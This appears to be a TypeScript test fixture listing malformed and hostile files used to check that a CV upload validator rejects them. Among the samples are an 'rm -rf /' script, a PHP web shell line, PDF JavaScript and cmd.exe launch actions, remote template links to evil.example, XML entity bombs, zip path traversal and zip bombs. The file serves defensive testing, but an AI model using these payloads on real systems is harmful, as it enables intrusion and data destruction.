import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { mostCvBytes } from '../../careers.rules.ts';
import {
  bytes,
  contentTypes,
  document,
  docx,
  docxParts,
  joined,
  outside,
  pdf,
  relations,
  zip,
} from '../../cvs.test-helper.ts';
import { hostileDocuments } from './hostile-docx.test-helper.ts';
import { hostilePdfs } from './hostile-pdfs.test-helper.ts';

const html = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>';
const archive = zip([{ name: 'a.txt', content: 'hello' }]);
const without = (name: string) => zip(docxParts().filter((part) => part.name !== name));
const megabytes = (count: number) => Buffer.alloc(count * 1024 * 1024);

/** Files that are no CV, or that are more than one. */
export const hostileCvs: [what: string, file: Buffer][] = [
  ['nothing', Buffer.alloc(0)],
  ['one byte', Buffer.alloc(1)],
  ['chance', randomBytes(20_000)],
  ['plain text', bytes('Ana Souza, tecnica del suono')],
  ['a page', bytes(html)],
  ['a picture', joined('\xff\xd8\xff\xe0', Buffer.alloc(400))],
  ['a Windows program', joined('MZ', Buffer.alloc(400))],
  ['a shell script', bytes('#!/bin/sh\nrm -rf /\n')],
  ['an old Word file', joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(4000))],
  ['rich text', bytes('{\\rtf1\\ansi{\\object\\objdata 0105}}')],
  ['the first bytes of a PDF', bytes('%PDF-1.7\n%%EOF')],
  ['half a PDF', pdf().subarray(0, 150)],
  ['a PDF behind a page', joined(html, pdf())],
  ['a PDF behind a picture', joined('\xff\xd8\xff\xe0', pdf())],
  ['a PDF of a version that never was', pdf({ header: '%PDF-9.9\n' })],
  ['a PDF with a page inside', pdf({ more: `4 0 obj(${html})endobj` })],
  ['a PDF with PHP inside', pdf({ more: '4 0 obj(<?php system($_GET["c"]); ?>)endobj' })],
  ['a PDF with a page after it', pdf({ after: `\n${html}` })],
  ['a PDF that is an archive too', joined(pdf(), archive)],
  ['a PDF with an archive before its end', pdf({ more: `4 0 obj\n${archive.toString('latin1')}\nendobj` })],
  ['a PDF that runs a script', pdf({ more: '4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj' })],
  ['a PDF that hides that it runs one', pdf({ more: '4 0 obj<</S/J#61vaScript/JS(app.alert(1))>>endobj' })],
  ['a PDF that starts a program', pdf({ more: '4 0 obj<</S/Launch/F(cmd.exe)>>endobj' })],
  ['an archive', archive],
  ['an empty archive', zip([])],
  ['a compressed PDF', gzipSync(pdf())],
  ['a document without its types', without('[Content_Types].xml')],
  ['a document without its text', without('word/document.xml')],
  [
    'a spreadsheet',
    zip([
      contentTypes('/xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      relations(),
      { name: 'xl/workbook.xml', content: '<workbook/>' },
    ]),
  ],
  [
    'a document that is no Word document',
    zip([contentTypes(), relations(), { name: 'word/document.xml', content: '<html>ciao</html>' }]),
  ],
  ['a document with macros', docx([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen' }])],
  [
    'a document that says it has macros',
    zip([
      contentTypes('/word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      relations(),
      document(),
    ]),
  ],
  ['a document with a control', docx([{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }])],
  ['a document with a packed object', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'MZ' }])],
  ['a document with a program', docx([{ name: 'word/media/foto.exe', content: 'MZ' }])],
  [
    'a document with a template on the internet',
    docx([relations(outside('attachedTemplate', 'https://evil.example/t.dotm'), 'word/_rels/settings.xml.rels')]),
  ],
  [
    'a document with a template on a share',
    docx([relations(outside('attachedTemplate', 'file://evil.example/t.dotm'), 'word/_rels/settings.xml.rels')]),
  ],
  [
    'a document with an object on the internet',
    docx([relations(outside('oleObject', 'http://evil.example/x!'), 'word/_rels/document.xml.rels')]),
  ],
  [
    'an entity bomb',
    docx([{ name: 'word/styles.xml', content: '<!DOCTYPE b [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><b>&b;</b>' }]),
  ],
  [
    'an entity bomb in another alphabet',
    docx([{ name: 'word/styles.xml', content: Buffer.from('\ufeff<!DOCTYPE b [<!ENTITY a "a">]><b/>', 'utf16le') }]),
  ],
  ['a document that climbs out of its folder', docx([{ name: '../../etc/cron.d/x', content: 'x' }])],
  ['a document with a name for Windows', docx([{ name: 'word\\..\\x', content: 'x' }])],
  ['a document with two texts of one name', docx([document()])],
  ['a document with a password', zip(docxParts().map((part) => ({ ...part, flags: 1 })))],
  ['a document packed in a way nobody knows', zip(docxParts().map((part) => ({ ...part, method: 99 })))],
  ['a document behind a program', zip(docxParts(), { before: `MZ${'\0'.repeat(60)}` })],
  ['a document with something between', zip(docxParts(), { between: html })],
  ['a document with a page as its comment', zip(docxParts(), { comment: html })],
  ['a document with something after it', joined(docx(), html)],
  ['a document whose directory names less than is there', zip(docxParts(), { count: 2 })],
  [
    'a document whose directory shows another name',
    zip([contentTypes(), relations(), { ...document(), claims: { name: 'word/documenx.xml' } }]),
  ],
  [
    'a document whose files lie upon each other',
    zip([...docxParts(), { name: 'word/a.xml', content: '<a/>', claims: { offset: 0 } }]),
  ],
  ['a document with a wrong sum', zip([contentTypes(), relations(), { ...document(), claims: { crc: 1 } }])],
  ['a bomb of 70 MB that says so', docx([{ name: 'word/media/image1.png', content: megabytes(70) }])],
  [
    'a bomb that says it is small',
    docx([{ name: 'word/media/image1.png', content: megabytes(40), claims: { size: 1000 } }]),
  ],
  [
    'a bomb in many pieces',
    docx(Array.from({ length: 40 }, (_, n) => ({ name: `word/media/image${n}.png`, content: megabytes(2) }))),
  ],
  [
    'a document of three thousand files',
    docx(Array.from({ length: 3000 }, (_, n) => ({ name: `word/media/${n}.png`, content: 'x', stored: true }))),
  ],
  ...hostilePdfs,
  ...hostileDocuments,
  ['a PDF of 5 MiB and one byte', pdf({ more: ' '.repeat(mostCvBytes + 1 - pdf().length) })],
];
